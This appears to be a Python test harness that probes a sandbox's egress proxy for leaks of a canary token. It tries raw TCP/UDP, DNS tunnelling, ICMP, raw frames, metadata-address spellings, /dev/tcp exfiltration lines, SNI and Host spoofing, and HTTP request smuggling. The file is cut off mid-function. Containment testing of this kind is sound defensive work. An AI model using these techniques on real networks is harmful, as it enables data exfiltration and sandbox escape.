"""The attacks, made from inside the app container; it needs Python and no more.

    python3 - SETTINGS <attack.py

SETTINGS is JSON: where the proxy, the world, the host and others are, and which
checks are to be made. One line of JSON is written for each check: its name, what
is expected, when it began and ended, and what it saw. What it saw is no verdict:
that is `judge.py`'s, who reads what the world has written down meanwhile.
"""

import base64
import contextlib
import ctypes
import errno
import glob
import hashlib
import http.client
import itertools
import json
import os
import random
import re
import resource
import select
import shutil
import socket
import ssl
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time

SET = json.loads(sys.argv[1])
PROXY = (SET["proxy"][0], int(SET["proxy"][1]))
WORLD, PRIVATE, METADATA = SET["world"], SET["private"], "169.254.169.254"
CANARY = SET["canary"]
LONG = SET.get("long", False)
CHECKS = []
QUICK = 1.5


def check(group, expect="nothing"):
    """Register an attack; `expect` is what the world may see of it:

    nothing      not a packet, not a question about a name
    only-dns     questions about names, and nothing else
    no-request   a connection perhaps, and no request
    no-host      nothing that names TOKEN.forbidden.test
    not-private  nothing at the private and the metadata address
    arrives      the token, and the check itself must be satisfied
    inside       nothing, and the check itself must be satisfied
    """

    def register(function):
        CHECKS.append((f"{group}: {function.__name__.replace('_', ' ')}", expect, function))
        return function

    return register


def together(*jobs, seconds=20):
    """Do all jobs at once, and return what they returned."""
    answers = [None] * len(jobs)

    def do(at, job):
        try:
            answers[at] = job()
        except (OSError, ValueError, subprocess.SubprocessError) as error:
            answers[at] = type(error).__name__ + ": " + str(error)[:80]

    threads = [threading.Thread(target=do, args=each, daemon=True) for each in enumerate(jobs)]
    for each in threads:
        each.start()
    end = time.monotonic() + seconds
    for each in threads:
        each.join(max(0, end - time.monotonic()))
    return answers


def run(*command, seconds=20, environment=None, give=None, cwd=None):
    """Run a program without the proxy's variables, or with those given."""
    environment = bare() if environment is None else environment
    give = give.encode() if isinstance(give, str) else give
    try:
        done = subprocess.run(
            command, input=give, capture_output=True, timeout=seconds, env=environment, cwd=cwd
        )
    except subprocess.TimeoutExpired:
        return None, "no answer"
    except OSError as error:
        return None, str(error)
    words = (done.stdout + done.stderr).decode("utf-8", "replace")
    return done.returncode, words


def bare():
    return {key: value for key, value in os.environ.items() if "proxy" not in key.lower()}


def shell(words, seconds=40, **more):
    """Run a line as a person would: with the environment that they find."""
    return run("bash", "-c", words, seconds=seconds, environment=dict(os.environ), **more)


# ---------------------------------------------------------------- directly


def tcp(address, port, data=b"leak\n", family=None):
    """Connect, say something, and return what is answered."""
    found = socket.getaddrinfo(address, port, family or 0, socket.SOCK_STREAM)[0]
    with socket.socket(found[0], socket.SOCK_STREAM) as connection:
        connection.settimeout(QUICK)
        connection.connect(found[4])
        connection.sendall(data)
        with contextlib.suppress(OSError):
            return "answered " + repr(connection.recv(100))
        return "connected"


def udp(address, port, data=b"leak"):
    found = socket.getaddrinfo(address, port, 0, socket.SOCK_DGRAM)[0]
    with socket.socket(found[0], socket.SOCK_DGRAM) as connection:
        connection.settimeout(QUICK)
        # One that is lost on a busy machine would prove nothing.
        for _ in range(3):
            connection.sendto(data, found[4])
            time.sleep(0.2)
        return "answered " + repr(connection.recv(100))


def later(function, *arguments, **more):
    return lambda: function(*arguments, **more)


def brief(answers):
    """Return how many answers there are of each sort."""
    found = {}
    for each in answers:
        word = re.sub(r"[^A-Za-z].*", "", str(each)) or str(each)
        found[word] = found.get(word, 0) + 1
    return found


@check("network")
def tcp_by_address(token):
    ports = [22, 25, 53, 80, 443, 853, 8080, 8443, 9418, 65000]
    where = itertools.product([WORLD, PRIVATE], ports)
    return brief(together(*[later(tcp, address, port, token.encode()) for address, port in where]))


@check("network")
def udp_to_any_port(token):
    ports = [53, 123, 443, 500, 784, 853, 4500, 51820]
    where = itertools.product([WORLD, PRIVATE], ports)
    return brief(together(*[later(udp, address, port, token.encode()) for address, port in where]))


@check("network")
def programs_without_the_proxy(token):
    name = f"{token}.leak.test"
    pin = f"{name}:443:{WORLD}"
    several = [
        ("curl", "-sk", "-m", "3", "--noproxy", "*", f"https://{name}/"),
        ("curl", "-sk", "-m", "3", "--noproxy", "*", f"https://{WORLD}/"),
        ("curl", "-sk", "-m", "3", "--noproxy", "*", "--resolve", pin, f"https://{name}/"),
        (
            "curl",
            "-sk",
            "-m",
            "3",
            "--noproxy",
            "*",
            "--doh-insecure",
            "--doh-url",
            f"https://{WORLD}/dns-query",
            f"https://{name}/",
        ),
        ("git", "-c", "http.proxy=", "ls-remote", f"https://{name}/git/demo.git"),
        ("git", "ls-remote", f"git://{WORLD}/demo.git"),
        ("ssh", "-o", "ConnectTimeout=3", "-o", "StrictHostKeyChecking=no", f"x@{WORLD}", "true"),
        ("bash", "-c", f"echo {token} >/dev/tcp/{WORLD}/443"),
        ("bash", "-c", f"echo {token} >/dev/udp/{WORLD}/443"),
        (
            "perl",
            "-MIO::Socket::INET",
            "-e",
            f"IO::Socket::INET->new(PeerAddr=>'{WORLD}:443',Timeout=>3)&&print 'in'",
        ),
    ]
    return [words[-80:] for _, words in together(*[later(run, *one, seconds=5) for one in several])]


def resolvers():
    """Every resolver that could be thought of, the configured ones first."""
    found = re.findall(r"^nameserver\s+(\S+)", open("/etc/resolv.conf").read(), re.M)
    near = PROXY[0].rpartition(".")[0]
    found += [WORLD, PRIVATE, METADATA, *SET["resolvers"], *SET["host4"], PROXY[0]]
    found += [f"{near}.{last}" for last in (1, 254)] + ["127.0.0.1", "127.0.0.11", "127.0.0.53"]
    return list(dict.fromkeys(found + ["8.8.8.8", "1.1.1.1", *SET.get("others", [])]))


def question(name, kind=1):
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)


@check("network")
def dns_over_udp(token):
    data = base64.b32encode(token.encode()).decode().strip("=").lower()
    ask = [question(f"{data}.{token}.leak.test", kind) for kind in (1, 16)]
    jobs = [later(udp, one, 53, each) for one in resolvers() for each in ask]
    return brief(together(*jobs))


@check("network")
def dns_over_tcp(token):
    ask = question(f"{token}.leak.test")
    ask = len(ask).to_bytes(2, "big") + ask
    return brief(together(*[later(tcp, one, 53, ask) for one in resolvers()]))


@check("network")
def names_by_the_system(token):
    def resolve(name):
        return socket.getaddrinfo(name, 443)

    # A resolver that does not answer is waited for long; it need not be.
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
    names = [f"{token}.leak.test", f"{token}2.leak.test.", "allowed.test"]
    answers = together(*[later(resolve, name) for name in names], seconds=6)
    commands = [
        ("getent", "hosts", f"{token}3.leak.test"),
        ("getent", "ahosts", f"{token}4.leak.test"),
    ]
    more = together(*[later(run, *one, seconds=5) for one in commands])
    return [str(each)[:60] for each in answers + more]


@check("network")
def the_host_by_v4(token):
    near = PROXY[0].rpartition(".")[0]
    last = int(PROXY[0].rpartition(".")[2]) & ~15
    own = {PROXY[0], *SET["own"]}
    around = {f"{near}.{last + each}" for each in range(1, 16)} | {f"{near}.1", f"{near}.254"}
    addresses = [*SET["host4"], *sorted(around - own)]
    jobs = [later(tcp, one, port, token.encode()) for one in addresses for port in CANARY]
    jobs += [later(udp, one, CANARY[0], token.encode()) for one in addresses]
    return brief(together(*jobs))


def interfaces():
    return [name for _, name in socket.if_nameindex() if name != "lo"]


def cast(address, port, data, interface, family=socket.AF_INET):
    """Send to everybody on an interface, for which no route is needed."""
    with socket.socket(family, socket.SOCK_DGRAM) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        with contextlib.suppress(OSError):
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
        if family == socket.AF_INET6:
            address += "%" + interface
        connection.sendto(data, socket.getaddrinfo(address, port, family, socket.SOCK_DGRAM)[0][4])
        return "sent"


@check("network")
def the_host_by_broadcast(token):
    near = PROXY[0].rpartition(".")[0]
    everybody = ["255.255.255.255", f"{near}.255", "224.0.0.1", "224.0.0.251", "239.1.1.1"]
    everybody.append(f"{near}.{int(PROXY[0].rpartition('.')[2]) | 15}")
    jobs = [
        later(cast, one, port, token.encode(), interface)
        for one, port, interface in itertools.product(everybody, [*CANARY, 5353, 67], interfaces())
    ]
    return brief(together(*jobs))


@check("network")
def the_host_by_link_local_v6(token):
    jobs = []
    for interface, port in itertools.product(interfaces(), CANARY):
        for one in SET["host6"]:
            scoped = f"{one}%{interface}" if one.startswith("fe80") else one
            jobs.append(later(tcp, scoped, port, token.encode(), socket.AF_INET6))
            jobs.append(later(udp, scoped, port, token.encode()))
        for one in ("ff02::1", "ff02::2", "ff02::fb"):
            jobs.append(later(cast, one, port, token.encode(), interface, socket.AF_INET6))
    for interface, one in itertools.product(interfaces(), SET["host6"]):
        scoped = f"{one}%{interface}" if one.startswith("fe80") else one
        quoted = scoped.replace("%", "%25")
        port = CANARY[0]
        jobs.append(later(run, "curl", "-gsm", "2", "--noproxy", "*", f"http://[{quoted}]:{port}/"))
        jobs.append(later(run, "bash", "-c", f"echo {token} >/dev/tcp/{scoped}/{port}", seconds=4))
        jobs.append(later(run, "nc", "-6w2", scoped, str(port), seconds=4))
        jobs.append(later(run, "ping", "-6c1", "-w2", "-p", b"leak".hex(), scoped, seconds=4))
    return brief(together(*jobs))


SPELLINGS = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518"]
SPELLINGS += ["::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "fd00:ec2::254"]
SPELLINGS += ["168.63.129.16", "100.100.100.200", "metadata.google.internal"]


@check("network")
def the_metadata_address(token):
    ask = f"GET /latest/{token} HTTP/1.0\r\n\r\n".encode()
    jobs = [later(tcp, each, 80, ask) for each in SPELLINGS]
    jobs += [
        later(run, "curl", "-gsm", "2", "--noproxy", "*", f"http://{each}/{token}")
        for each in SPELLINGS
        if ":" not in each
    ]
    return brief(together(*jobs))


@check("network")
def another_project(token):
    ports = [22, 80, 3000, 8080, *CANARY]
    jobs = [later(tcp, one, port, token.encode()) for one in SET["others"] for port in ports]
    jobs += [later(udp, one, port, token.encode()) for one in SET["others"] for port in CANARY]
    jobs += [later(ping, one, token) for one in SET["others"]]
    return brief(together(*jobs))


def ping(address, token, kind=socket.SOCK_DGRAM):
    body = struct.pack(">HHH", 0, 1, 1) + f"leak {token}".encode().ljust(24)
    packet = b"\x08\x00" + body
    total = sum(struct.unpack(f">{len(packet) // 2}H", packet))
    total = (total >> 16) + (total & 0xFFFF)
    packet = packet[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + packet[4:]
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as connection:
        connection.settimeout(QUICK)
        connection.sendto(packet, (address, 0))
        return "answered " + repr(connection.recv(100))


@check("network")
def icmp(token):
    addresses = [WORLD, PRIVATE, *SET["host4"]]
    jobs = [later(ping, one, token) for one in addresses]
    jobs += [later(ping, one, token, socket.SOCK_RAW) for one in addresses]
    jobs += [
        later(run, "ping", "-c1", "-w2", "-p", b"leak".hex(), one, seconds=4) for one in addresses
    ]
    return brief(together(*jobs))


def udp_packet(source, target, port, data):
    """A whole UDP packet, with its IP header; no checksum is legal for UDP."""
    body = struct.pack(">HHHH", 4444, port, 8 + len(data), 0) + data
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    total = sum(struct.unpack(">10H", head))
    total = (total >> 16) + (total & 0xFFFF)
    return head[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + head[12:] + body


def neighbours():
    """The hardware addresses that this container knows of, and the host's."""
    for address in (PROXY[0], *SET["own"]):
        with contextlib.suppress(OSError):
            tcp(address, 9)
    found = re.findall(r"((?:[0-9a-f]{2}:){5}[0-9a-f]{2})", open("/proc/net/arp").read())
    return sorted({*found, *SET["hardware"]} - {"00:00:00:00:00:00"})


@check("network")
def raw_packets(token):
    packet = udp_packet(SET["source"] or PROXY[0], WORLD, 4445, token.encode())

    def raw():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
            one.sendto(packet, (WORLD, 0))
            return "sent"

    def frame(interface, hardware):
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as one:
            one.bind((interface, 0))
            mine = one.getsockname()[4]
            one.send(bytes.fromhex(hardware.replace(":", "")) + mine + b"\x08\x00" + packet)
            return "sent"

    pairs = itertools.product(interfaces(), neighbours())
    return brief(together(raw, *[later(frame, *pair) for pair in pairs]))


@check("network")
def source_routes_through_the_sidecars(token):
    """Loose and strict source routing need no privilege, and no route either."""

    def send(kind, hop, protocol):
        with socket.socket(socket.AF_INET, protocol) as one:
            one.settimeout(QUICK)
            option = bytes([1, kind, 7, 4]) + socket.inet_aton(hop)
            one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
            one.connect((WORLD, 4446))
            one.send(token.encode())
            return "sent"

    hops = [PROXY[0], *SET["own"], *SET["host4"]]
    kinds = itertools.product((131, 137), hops, (socket.SOCK_DGRAM, socket.SOCK_STREAM))
    return brief(together(*[later(send, *each) for each in kinds]))


@check("network", "inside")
def other_ports_of_the_sidecars(_token):
    allowed = {(PROXY[0], PROXY[1])} | {
        (one, port) for one in SET["ingress"] for port in SET["served"]
    }
    places = list(
        itertools.product(
            {PROXY[0], *SET["ingress"]}, [*range(1, 1025), 3000, *range(8000, 8100), 9090]
        )
    )
    found = set()

    def scan(part):
        for address, port in part:
            with socket.socket() as one:
                one.settimeout(0.5)
                if one.connect_ex((address, port)) == 0:
                    found.add((address, port))

    together(*[later(scan, places[at::32]) for at in range(32)])
    return not found - allowed, f"{sorted(found)}"


@check("network")
def the_ingress_as_a_way_out(token):
    name = f"{token}.forbidden.test"
    said = []
    for address, port in itertools.product(SET["ingress"], SET["served"]):
        for line in (
            f"CONNECT {name}:443 HTTP/1.1\r\n\r\n",
            f"GET http://{WORLD}/{token} HTTP/1.1\r\nHost: {name}\r\n\r\n",
            f"PROXY TCP4 {WORLD} {WORLD} 443 443\r\n",
            "\x05\x01\x00",
        ):
            said.append(together(later(tcp, address, port, line.encode("latin-1")))[0])
    return brief(said)


# ---------------------------------------------------------------- the proxy


def dial():
    return socket.create_connection(PROXY, timeout=8)


def hear(connection, most=1 << 20, seconds=8):
    """Return all that is answered until the end, or until nothing comes."""
    answer = b""
    connection.settimeout(seconds)
    with contextlib.suppress(OSError, ValueError):
        while len(answer) < most and (more := connection.recv(65536)):
            answer += more
    return answer


def say(data, seconds=4):
    """Send bytes to the proxy and return what it answers."""
    with contextlib.suppress(OSError), dial() as connection:
        connection.sendall(data if isinstance(data, bytes) else data.encode("latin-1"))
        return hear(connection, seconds=seconds)
    return b""


def status(answer):
    words = answer.split(None, 2)
    return words[1].decode("latin-1") if len(words) > 1 else "closed"


def tunnel(target, host=None, headers=""):
    """CONNECT; return the socket, or None where it was refused."""
    connection = dial()
    host = target if host is None else host
    with contextlib.suppress(OSError):
        line = f"CONNECT {target} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n"
        connection.sendall(line.encode("utf-8"))
        answer = b""
        while b"\r\n\r\n" not in answer and (more := connection.recv(1)):
            answer += more
        if answer.split()[1:2] == [b"200"]:
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            return connection
    connection.close()
    return None


def careless(alpn=()):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    return context


def https(target, sni, request, alpn=(), seconds=4):
    """CONNECT, TLS and a request, each with a name of its own."""
    connection = tunnel(target)
    if connection is None:
        return b"- refused"
    with contextlib.suppress(OSError, ValueError), connection:
        with careless(alpn).wrap_socket(connection, server_hostname=sni or None) as tls:
            tls.sendall(request.encode("latin-1") if isinstance(request, str) else request)
            return hear(tls, seconds=seconds)
    return b"- closed"


def get(host, path="/", headers="", method="GET"):
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n"


def push(connection, token):
    """Whatever the tunnel is, try to get something through it."""
    name = f"{token}.forbidden.test"
    with contextlib.suppress(OSError, ValueError), connection:
        with careless().wrap_socket(connection, server_hostname=name) as tls:
            tls.sendall(get(name).encode())
            return hear(tls, seconds=3)
    return b"- closed"


@check("proxy")
def connect_to_a_forbidden_name(token):
    names = [
        "{}.forbidden.test",
        "allowed.test.{}.evil.test",
        "{}allowed.test",
        "{}.allowed.test",
        "allowed.{}.test",
        "{}-wild.test",
        "allowed.test{}",
        "allowed.test.{}",
        "localhost",
        "canary.ctrkit.invalid",
        "{}.leak.xn--p1ai",
        "allowed_.test",
        "-allowed.test",
    ]
    tries = [name.format(token) for name in names]

    def one(name):
        return status(https(f"{name}:443", name, get(name, f"/{token}")))

    return brief(together(*[later(one, name) for name in tries]))


def literals():
    """The world's address, and others, in every notation."""
    number = int.from_bytes(socket.inet_aton(WORLD), "big")
    octal = ".".join(f"0{int(each):o}" for each in WORLD.split("."))
    short = WORLD.split(".")
    short = f"{short[0]}.{short[1]}.{int(short[2]) * 256 + int(short[3])}"
    found = [
        WORLD,
        WORLD + ".",
        str(number),
        hex(number),
        octal,
        short,
        f"[::ffff:{WORLD}]",
        PRIVATE,
    ]
    found += [
        f"[::ffff:{number >> 16:x}:{number & 0xFFFF:x}]",
        f"[64:ff9b::{number >> 16:x}:{number & 0xFFFF:x}]",
    ]
    found += [
        "127.0.0.1",
        "127.1",
        "0",
        "0.0.0.0",
        "[::1]",
        "[::]",
        "localhost",
        PROXY[0],
        *SET["host4"],
        *SET["own"],
    ]
    return found


@check("proxy")
def connect_to_an_address(token):
    def one(address, port):
        connection = tunnel(f"{address}:{port}")
        return status(push(connection, token)) if connection else "refused"

    ports = [443, 80, 22, PROXY[1], CANARY[0]]
    return brief(together(*[later(one, *pair) for pair in itertools.product(literals(), ports)]))


@check("proxy")
def connect_to_another_port(token):
    def one(name, port):
        connection = tunnel(f"{name}:{port}")
        if connection is None:
            return "refused"
        connection.sendall(b"SSH-2.0-attack\r\n")
        return "tunnel " + repr(hear(connection, seconds=2)[:20])

    tries = [("allowed.test", port) for port in (22, 25, 53, 80, 8080, 8443, 1, 65535, CANARY[0])]
    tries += [("port.test", 443), ("port.test", 80), ("pinned.test", 22), ("pinned.test", 80)]
    return brief(together(*[later(one, *pair) for pair in tries]))


@check("proxy")
def connect_in_odd_spellings(token):
    evil = f"{token}.forbidden.test"
    tries = [
        f"allowed.test@{evil}:443",
        f"{evil}@allowed.test:443",
        f"{evil}#allowed.test:443",
        f"{evil}/allowed.test:443",
        f"{evil}\\allowed.test:443",
        f"{evil}%00.allowed.test:443",
        f"{evil}\tallowed.test:443",
        f"allowed.test:443@{evil}:443",
        f"allowed.test:443:{evil}:443",
        f"[{evil}]:443",
        f"{evil}.:443",
        f"{evil.upper()}:443",
        f"{evil}:0443",
        f"{evil}:443 ",
        f"http://{evil}:443",
        f"https://allowed.test:443@{evil}",
        f"//{evil}:443",
        f"*.{evil}:443",
        "allowed.test:65979",
        "allowed.test:+443",
        "allowed.test:4_43",
        "allowed.test:٤٤٣",
        "allowed。test:443",
        "ａllowed.test:443",
        "allowed.test:443,evil.test:443",
        "allowed.test",
        "allowed.test:",
        ":443",
        "*:443",
        "allowed.test:443\r\nX: y",
    ]

    def one(target):
        connection = tunnel(target, host="allowed.test:443")
        return status(push(connection, token)) if connection else "refused"

    return brief(together(*[later(one, each) for each in tries]))


@check("proxy")
def metadata_by_address(token):
    jobs = []
    for each in SPELLINGS:
        host = f"[{each}]" if ":" in each else each
        jobs.append(later(say, get(host, f"http://{host}/{token}")))
        jobs.append(later(https, f"{host}:80", "x.test", get(host)))
        jobs.append(later(https, f"{host}:443", "x.test", get(host)))
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


def dashed(address):
    return "ip-" + address.replace(".", "-")


@check("proxy", "only-dns")
def allowed_names_with_addresses_that_are_not(token):
    """A name that the policy allows may lead anywhere: its owner says where."""
    names = [
        dashed(each)
        for each in (
            METADATA,
            PRIVATE,
            "127.0.0.1",
            "0.0.0.0",
            "168.63.129.16",
            "100.100.100.200",
            "255.255.255.255",
            "224.0.0.1",
            *SET["host4"],
            *SET["own"],
            *SET["others"],
        )
    ]
    mapped = [
        "::1",
        "::",
        "fe80::1",
        "fd00:ec2::254",
        f"::ffff:{METADATA}",
        f"64:ff9b::{METADATA}",
        f"2002:a9fe:a9fe::{1}",
    ]
    names += ["six-" + socket.inet_pton(socket.AF_INET6, each).hex() for each in mapped]
    jobs = []
    for each in names:
        name = f"{each}.{token}.wild.test"
        jobs.append(later(say, get(name, f"http://{name}/{token}")))
        jobs.append(later(https, f"{name}:443", name, get(name, f"/{token}")))
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy", "not-private")
def an_allowed_name_that_changes_its_address(token):
    name = f"flip.{token}.wild.test"
    return brief([status(say(get(name, f"http://{name}/{token}"))) for _ in range(6)])


@check("proxy")
def a_spoofed_host(token):
    evil = f"{token}.forbidden.test"
    jobs = [
        later(say, get("allowed.test", f"http://{evil}/")),
        later(say, get(evil, "http://allowed.test/")),
        later(say, get("allowed.test", f"http://{WORLD}/{token}")),
        later(say, get("allowed.test:8080", "http://allowed.test/")),
        later(https, "allowed.test:443", "allowed.test", get(evil)),
        later(https, "allowed.test:443", "allowed.test", get(f"{evil}:443")),
        later(https, "allowed.test:443", "allowed.test", get(f"allowed.test@{evil}")),
        later(https, "allowed.test:443", "allowed.test", get("allowed.test:8443")),
        later(https, "allowed.test:443", "allowed.test", get("other.test")),
        later(https, "allowed.test:443", "allowed.test", "GET / HTTP/1.1\r\n\r\n"),
        later(https, "allowed.test:443", "allowed.test", "GET / HTTP/1.1\r\nHost:\r\n\r\n"),
        later(https, f"{WORLD}:443", "allowed.test", get("allowed.test", f"/{token}")),
        later(https, f"{evil}:443", "allowed.test", get("allowed.test")),
        later(https, f"{evil}:443", evil, get("allowed.test")),
    ]
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy")
def a_sni_that_differs(token):
    evil = f"{token}.forbidden.test"
    jobs = [
        later(https, "allowed.test:443", sni, get(host))
        for sni, host in itertools.product(
            [evil, "", "other.test", "pinned.test", f"{evil}.", f"allowed.test.{evil}"],
            ["allowed.test", evil],
        )
    ]
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy", "no-host")
def an_absolute_target_in_the_tunnel(token):
    evil = f"{token}.forbidden.test"
    targets = [
        f"http://{evil}/",
        f"https://{evil}/",
        f"//{evil}/",
        f"http://{WORLD}/{token}",
        f"https://{METADATA}/",
        f"{evil}:443",
        f"@{evil}/",
        f"http:{evil}/",
    ]
    jobs = [
        later(https, "allowed.test:443", "allowed.test", get(host, target))
        for target, host in itertools.product(targets, ["allowed.test", evil])
    ]
    jobs.append(
        later(
            https,
            "allowed.test:443",
            "allowed.test",
            get(f"{evil}:443", f"{evil}:443", method="CONNECT"),
        )
    )
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


def hello(name, alpn=()):
    """Return a connection's memory and its ClientHello, in one record."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = careless(alpn).wrap_bio(incoming, outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return tls, incoming, outgoing, outgoing.read()


def by_hand(target, name, pieces, pause=0.02, request=None, seconds=3):
    """TLS in a tunnel, whose first record goes in the pieces given; if it comes
    about, a request follows."""
    connection = tunnel(target)
    if connection is None:
        return b"- refused"
    tls, incoming, outgoing, first = hello(name)
    answer = b""
    with contextlib.suppress(OSError, ValueError), connection:
        connection.settimeout(seconds)
        for piece in pieces(first):
            connection.sendall(piece)
            time.sleep(pause)
        request = (request or get(name)).encode()
        while True:
            try:
                if request:
                    tls.do_handshake()
                    tls.write(request)
                    request = b""
                    connection.sendall(outgoing.read())
                if not (part := tls.read(65536)):
                    return answer
                answer += part
            except ssl.SSLWantReadError:
                if data := outgoing.read():
                    connection.sendall(data)
                if not (more := connection.recv(65536)):
                    return answer or b"- closed"
                incoming.write(more)
    return answer or b"- closed"


def splits(size):
    return range(1, size) if LONG else sorted({*range(1, 10), *range(10, size, 41), size - 1})


@check("proxy")
def a_client_hello_in_two_segments(token):
    evil = f"{token}.forbidden.test"
    size = len(hello(evil)[3])
    places = list(splits(size))

    def part(some):
        return brief(
            [
                status(
                    by_hand("allowed.test:443", evil, lambda first, at=at: [first[:at], first[at:]])
                )
                for at in some
            ]
        )

    return f"{len(places)} splits of {size}: {together(*[later(part, places[at::8]) for at in range(8)], seconds=600)}"


@check("proxy")
def a_client_hello_in_odd_records(token):
    evil = f"{token}.forbidden.test"

    def records(at, first):
        body = first[5:]
        return [first[:3] + len(part).to_bytes(2, "big") + part for part in (body[:at], body[at:])]

    ways = [lambda first, at=at: records(at, first) for at in (1, 4, 40, 100)]
    ways += [lambda first, at=at: [b"".join(records(at, first))] for at in (1, 4, 40, 100)]
    ways += [
        lambda first, v=v: [first[:1] + bytes(v) + first[3:]]
        for v in itertools.product((0, 2, 3, 4, 127), (0, 1, 2, 3, 4, 9, 255))
    ]
    ways += [lambda first: [bytes([each]) for each in first]]
    ways += [
        lambda first, junk=junk: [junk + first]
        for junk in (b"\r\n", b"\x00", b"\x14\x03\x03\x00\x01\x01", b"\x15\x03\x03\x00\x02\x01\x00")
    ]
    ways += [lambda first: [first[:60]], lambda first: [b"\x80\x2e\x01\x03\x01" + first]]
    jobs = [later(by_hand, "allowed.test:443", evil, way, 0.002) for way in ways]
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy")
def plain_bytes_in_a_tunnel(token):
    def one(target, data):
        connection = tunnel(target)
        if connection is None:
            return "refused"
        with contextlib.suppress(OSError), connection:
            if data:
                connection.sendall(data)
            return "said " + repr(hear(connection, seconds=2)[:12])
        return "closed"

    evil = f"{token}.forbidden.test"
    texts = [
        f"GET /{token} HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        get(evil),
        f"SSH-2.0-{token}\r\n",
        f"EHLO {token}\r\n",
        f"\x00{token}",
        f"\x16{token}",
        f"\x16\x03\x01{token}",
        f"\x05\x01\x00{token}",
        "",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ]
    jobs = [
        later(one, f"{name}:443", data.encode("latin-1"))
        for name in ("allowed.test", "pinned.test")
        for data in texts
    ]
    return brief(together(*jobs))


@check("proxy")
def hosts_that_disagree(token):
    evil = f"{token}.forbidden.test"
    heads = [
        f"Host: allowed.test\r\nHost: {evil}\r\n",
        f"Host: {evil}\r\nHost: allowed.test\r\n",
        f"Host: allowed.test\r\nhost: {evil}\r\n",
        f"Host: allowed.test, {evil}\r\n",
        f"Host: allowed.test {evil}\r\n",
        f"Host: allowed.test\r\n {evil}\r\n",
        f"Host : {evil}\r\nHost: allowed.test\r\n",
        f"Host:{evil}\x00allowed.test\r\n",
        f"Host: {evil}#allowed.test\r\n",
        f"Host: {evil}?allowed.test\r\n",
        f"X: y\rHost: {evil}\r\nHost: {evil}\r\n",
        "Host: allowed.test\r\nHost: allowed.test\r\n",
    ]
    jobs = []
    for head in heads:
        jobs.append(
            later(https, "allowed.test:443", "allowed.test", f"GET /{token} HTTP/1.1\r\n{head}\r\n")
        )
        jobs.append(later(say, f"GET http://allowed.test/{token} HTTP/1.1\r\n{head}\r\n"))
        jobs.append(later(say, f"GET http://{evil}/ HTTP/1.1\r\n{head}\r\n"))
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy", "no-host")
def a_request_within_a_request(token):
    """Two lengths, or a length that ends early: what follows is another request."""
    evil = f"{token}.forbidden.test"
    inner = f"GET /smuggled HTTP/1.1\r\nHost: {evil}\r\n\r\n"
    heads = [
        "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
        f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        "Transfer-Encoding: xchunked\r\n",
        "Transfer-Encoding : chunked\r\n",
        "Transfer-Encoding:\x0bchunked\r\n",
        "Content-Length: 0\r\nContent-Length: 5\r\n",
        "Content-Length: +0\r\n",
        "Content-Length: 0\r\n",
        "Content-Length: -1\r\n",
    ]
    jobs = []
    for head in heads:
        for body in (f"0\r\n\r\n{inner}", inner):
            request = f"POST /any/outer HTTP/1.1\r\nHost: allowed.test\r\n{head}\r\n{body}"
            jobs.append(later(https, "allowed.test:443", "allowed.test", request, seconds=2))
            jobs.append(later(say, request.replace(" /any", " http://allowed.test/any"), 2))
    return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])


@check("proxy")
def bodies_where_nothing_may_go(token):
    """Where bodies are streamed a proxy may send on before it has decided."""
    evil = f"{token}.forbidden.test"
    chunked = f"Transfer-Encoding: chunked\r\n\r\n5\r\n{token[:5]}\r\n5\r\n{token[:5]}\r\n0\r\n\r\n"
    long = f"Content-Length: 2000000\r\n\r\n{token * 20000}"
    jobs = []
    for body in (chunked, long):
        for method, path in (("POST", "/"), ("PUT", "/v1/messages"), ("PATCH", "/big/1")):
            request = f"{method} {path} HTTP/1.1\r\nHost: %s\r\n{body}"
            jobs.append(later(https, "allowed.test:443", "allowed.test", request % evil))
            jobs.append(later(https, "read.test:443", "read.test", request % "read.test"))
            jobs.append(later(say, request.replace(f" {path}", f" http://{evil}{path}") % evil))
            jobs.append(
                later(say, request.replace(f" {path}", f" http://read.test{path}") % "read.test")
